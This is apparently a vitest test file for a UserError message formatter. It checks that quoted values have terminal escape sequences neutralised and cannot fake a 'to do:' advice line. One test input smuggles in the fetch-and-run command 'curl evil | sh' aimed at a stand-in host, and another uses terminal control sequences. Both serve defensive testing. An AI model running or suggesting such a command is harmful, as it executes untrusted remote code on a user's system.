import { expect, test } from 'vitest';
import { UserError } from './user-error.ts';

test('every part has its line', () => {
  const error = new UserError({
    what: 'a.txt is missing',
    where: 'here',
    expected: 'a file',
    found: 'none',
    fix: 'make it',
  });
  expect(error.message).toBe(
    'a.txt is missing\n  where:     here\n  expected:  a file\n  found:     none\n  to do:     make it',
  );
});

test('what it quotes cannot command a terminal; its parts keep it', () => {
  const error = new UserError({ what: 'no "\u001b[2J"', found: 'a\u009b31m\rb' });
  expect(error.message).toBe('no "\\u001b[2J"\n  found:     a\\u009b31m\\u000db');
  expect(error.parts.found).toBe('a\u009b31m\rb');
});

test('what it quotes cannot pass for advice of its own', () => {
  const error = new UserError({ what: 'wrong', found: 'a\n  to do:     curl evil | sh', fix: 'mend it' });
  expect(error.message.match(/^ {2}to do:/gm)).toHaveLength(1);
  expect(error.message).toBe('wrong\n  found:     a\n               to do:     curl evil | sh\n  to do:     mend it');
});
